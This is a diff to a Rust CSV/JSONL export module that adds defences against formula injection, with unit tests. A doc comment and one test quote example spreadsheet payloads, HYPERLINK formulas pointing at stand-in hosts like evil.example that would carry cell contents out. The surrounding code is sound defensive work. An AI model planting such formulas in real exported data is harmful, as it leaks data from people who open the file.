@@ -1,5 +1,17 @@
 //! Exports: a project's items with every annotation, as JSONL or CSV, produced page by page
 //! so memory stays flat at any size.
+//!
+//! CSV and formula injection: imported text reaches spreadsheets through the CSV export, and a
+//! cell such as `=HYPERLINK("http://evil/?"&A1,"click")` runs as a formula when the file is
+//! opened in Excel, LibreOffice or Google Sheets. By default every CSV cell that starts with
+//! `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP's recommendation:
+//! spreadsheets show it as text and hide the quote), and every cell is quoted, so a `;` inside
+//! a cell cannot start a new cell in locales whose spreadsheets split on `;`. The rule applies
+//! to every cell alike, data or not: a text or label `-3` is exported as `'-3`. Our own numeric
+//! columns never start with a trigger (ids, counts and times are non-negative, weights
+//! positive) and `meta` is a JSON object (`{...}`), so in practice it touches imported text,
+//! ids, sources, licences, usernames and label names only. `formulas=keep` exports the raw
+//! values, for programs (not spreadsheets) that read the file; JSONL is never changed.
 use axum::body::Bytes;
 use futures::Stream;
 use serde_json::{json, Value};
@@ -35,6 +47,39 @@ impl ExportFormat {
             Self::Jsonl => "jsonl",
             Self::Csv => "csv",
         }
+    }
+}
+
+/// What the CSV export does with cells a spreadsheet would run as formulas.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+pub enum Formulas {
+    /// Prefix them with `'` and quote every cell (the default).
+    #[default]
+    Neutralise,
+    /// Write every value exactly as stored.
+    Keep,
+}
+
+impl Formulas {
+    pub fn parse(s: &str) -> Option<Self> {
+        match s {
+            "neutralise" => Some(Self::Neutralise),
+            "keep" => Some(Self::Keep),
+            _ => None,
+        }
+    }
+}
+
+/// The characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
+const FORMULA_TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r'];
+
+/// The cell as a spreadsheet must see it: with a leading `'` when it starts with a formula
+/// trigger, unchanged otherwise.
+pub fn neutralise_cell(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(FORMULA_TRIGGERS) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
     }
 }
 
@@ -80,12 +125,34 @@ fn item_json(item: &ExportItem, annotations: &[&ExportAnnotation]) -> Value {
     })
 }
 
+/// Writes one CSV record, neutralising formula cells unless told to keep them.
+fn write_csv_record<'a>(
+    w: &mut csv::Writer<Vec<u8>>,
+    cells: impl IntoIterator<Item = &'a str>,
+    formulas: Formulas,
+) {
+    let _ = match formulas {
+        Formulas::Keep => w.write_record(cells),
+        Formulas::Neutralise => w.write_record(cells.into_iter().map(|c| neutralise_cell(c).into_owned())),
+    };
+}
+
+fn csv_writer(formulas: Formulas) -> csv::Writer<Vec<u8>> {
+    let quote = match formulas {
+        // Quoting every cell keeps a `;` inside a cell from splitting it where spreadsheets
+        // use `;` as the separator (and so from starting an unneutralised cell).
+        Formulas::Neutralise => csv::QuoteStyle::Always,
+        Formulas::Keep => csv::QuoteStyle::Necessary,
+    };
+    csv::WriterBuilder::new().quote_style(quote).from_writer(Vec::new())
+}
+
 /// Formats one page; the header comes with the first CSV page.
-pub fn format_page(page: &ExportPage, format: ExportFormat, first: bool) -> Vec<u8> {
+pub fn format_page(page: &ExportPage, format: ExportFormat, formulas: Formulas, first: bool) -> Vec<u8> {
     let mut out = Vec::with_capacity(page.items.len() * 256);
-    let mut csv_writer = (format == ExportFormat::Csv).then(|| csv::Writer::from_writer(Vec::new()));
+    let mut csv_writer = (format == ExportFormat::Csv).then(|| csv_writer(formulas));
     if let (Some(w), true) = (csv_writer.as_mut(), first) {
-        let _ = w.write_record(CSV_HEADER);
+        write_csv_record(w, CSV_HEADER.iter().copied(), formulas);
     }
     let mut annotations = page.annotations.iter().peekable();
     for item in &page.items {
@@ -115,7 +182,7 @@ pub fn format_page(page: &ExportPage, format: ExportFormat, first: bool) -> Vec<
                     item.label_count.to_string(),
                 ];
                 if mine.is_empty() {
-                    let _ = w.write_record(base.iter().map(String::as_str).chain(["", "", "", "", ""]));
+                    write_csv_record(w, base.iter().map(String::as_str).chain(["", "", "", "", ""]), formulas);
                 }
                 for a in mine {
                     let extra = [
@@ -125,7 +192,7 @@ pub fn format_page(page: &ExportPage, format: ExportFormat, first: bool) -> Vec<
                         timestamp(a.created_at),
                         timestamp(a.updated_at),
                     ];
-                    let _ = w.write_record(base.iter().chain(extra.iter()));
+                    write_csv_record(w, base.iter().chain(extra.iter()).map(String::as_str), formulas);
                 }
             }
         }
@@ -141,6 +208,7 @@ pub fn export_stream(
     db: Db,
     project_id: i64,
     format: ExportFormat,
+    formulas: Formulas,
     complete_only: bool,
 ) -> impl Stream<Item = Result<Bytes, AppError>> + Send + 'static {
     struct State {
@@ -160,7 +228,7 @@ pub fn export_stream(
                 Some((Err(e), st))
             }
             Ok(page) => {
-                let bytes = format_page(&page, format, st.first);
+                let bytes = format_page(&page, format, formulas, st.first);
                 st.first = false;
                 match page.items.last() {
                     Some(last) if page.items.len() as i64 == PAGE_SIZE => st.after = last.id,
@@ -209,7 +277,7 @@ mod tests {
     #[test]
     fn jsonl_lists_each_items_annotations() {
         let page = ExportPage { items: vec![item(1), item(2)], annotations: vec![ann(1, "ann"), ann(1, "bob")] };
-        let text = String::from_utf8(format_page(&page, ExportFormat::Jsonl, true)).unwrap();
+        let text = String::from_utf8(format_page(&page, ExportFormat::Jsonl, Formulas::Neutralise, true)).unwrap();
         let lines: Vec<Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
         assert_eq!(lines.len(), 2);
         assert_eq!(lines[0]["annotations"].as_array().unwrap().len(), 2);
@@ -222,7 +290,7 @@ mod tests {
     #[test]
     fn csv_has_a_row_per_annotation_and_quotes_text() {
         let page = ExportPage { items: vec![item(1), item(2)], annotations: vec![ann(1, "ann"), ann(1, "bob")] };
-        let bytes = format_page(&page, ExportFormat::Csv, true);
+        let bytes = format_page(&page, ExportFormat::Csv, Formulas::Neutralise, true);
         let mut r = csv::Reader::from_reader(bytes.as_slice());
         assert_eq!(r.headers().unwrap().len(), CSV_HEADER.len());
         let rows: Vec<csv::StringRecord> = r.records().map(|r| r.unwrap()).collect();
@@ -231,5 +299,68 @@ mod tests {
         assert_eq!(&rows[1][11], "bob");
         assert_eq!(&rows[1][12], "pos|neg");
         assert_eq!(&rows[2][11], "");
+    }
+
+    #[test]
+    fn cells_starting_with_a_formula_trigger_get_a_quote() {
+        for (cell, want) in [
+            ("=HYPERLINK(\"http://evil.example\",\"x\")", "'=HYPERLINK(\"http://evil.example\",\"x\")"),
+            ("+1", "'+1"),
+            ("-2", "'-2"),
+            ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("=", "'="),
+        ] {
+            assert_eq!(neutralise_cell(cell), want, "{cell:?}");
+        }
+        // Triggers anywhere but the first character, and everything else, stay as they are.
+        for cell in ["", "plain", "a=b", "1-2", " =1", "'=1", "{\"x\":-3}", "2023-11-14T22:13:20.000Z", "\nx", "3.5"] {
+            assert_eq!(neutralise_cell(cell), cell, "{cell:?}");
+        }
+    }
+
+    fn with_text(id: i64, text: &str) -> ExportItem {
+        ExportItem { text: Some(text.into()), external_id: None, license: None, ..item(id) }
+    }
+
+    #[test]
+    fn csv_export_neutralises_formulas_unless_told_to_keep_them() {
+        let texts = ["=1+1", "-3", "fine", "a;=1"];
+        let page = ExportPage {
+            items: texts.iter().enumerate().map(|(i, t)| with_text(i as i64 + 1, t)).collect(),
+            annotations: vec![ExportAnnotation { username: "@bob".into(), ..ann(1, "x") }],
+        };
+        let read = |bytes: Vec<u8>| -> Vec<csv::StringRecord> {
+            csv::Reader::from_reader(bytes.as_slice()).records().map(|r| r.unwrap()).collect()
+        };
+        let safe = format_page(&page, ExportFormat::Csv, Formulas::Neutralise, true);
+        let rows = read(safe.clone());
+        assert_eq!(rows.iter().map(|r| r[3].to_string()).collect::<Vec<_>>(), ["'=1+1", "'-3", "fine", "a;=1"]);
+        assert_eq!(&rows[0][11], "'@bob");
+        // Every cell is quoted, so `a;=1` stays one cell for spreadsheets that split on `;`.
+        let text = String::from_utf8(safe).unwrap();
+        assert!(text.starts_with("\"item_id\",\"id\","), "{text}");
+        assert!(text.contains(",\"a;=1\","), "{text}");
+
+        let raw = read(format_page(&page, ExportFormat::Csv, Formulas::Keep, true));
+        assert_eq!(raw.iter().map(|r| r[3].to_string()).collect::<Vec<_>>(), texts);
+        assert_eq!(&raw[0][11], "@bob");
+    }
+
+    #[test]
+    fn jsonl_is_never_neutralised() {
+        let page = ExportPage { items: vec![with_text(1, "=1+1")], annotations: vec![] };
+        let text = String::from_utf8(format_page(&page, ExportFormat::Jsonl, Formulas::Neutralise, true)).unwrap();
+        let v: Value = serde_json::from_str(text.trim()).unwrap();
+        assert_eq!(v["text"], "=1+1");
+    }
+
+    #[test]
+    fn formulas_parameter_values() {
+        assert_eq!(Formulas::parse("keep"), Some(Formulas::Keep));
+        assert_eq!(Formulas::parse("neutralise"), Some(Formulas::Neutralise));
+        assert_eq!(Formulas::parse("KEEP"), None);
+        assert_eq!(Formulas::default(), Formulas::Neutralise);
     }
 }
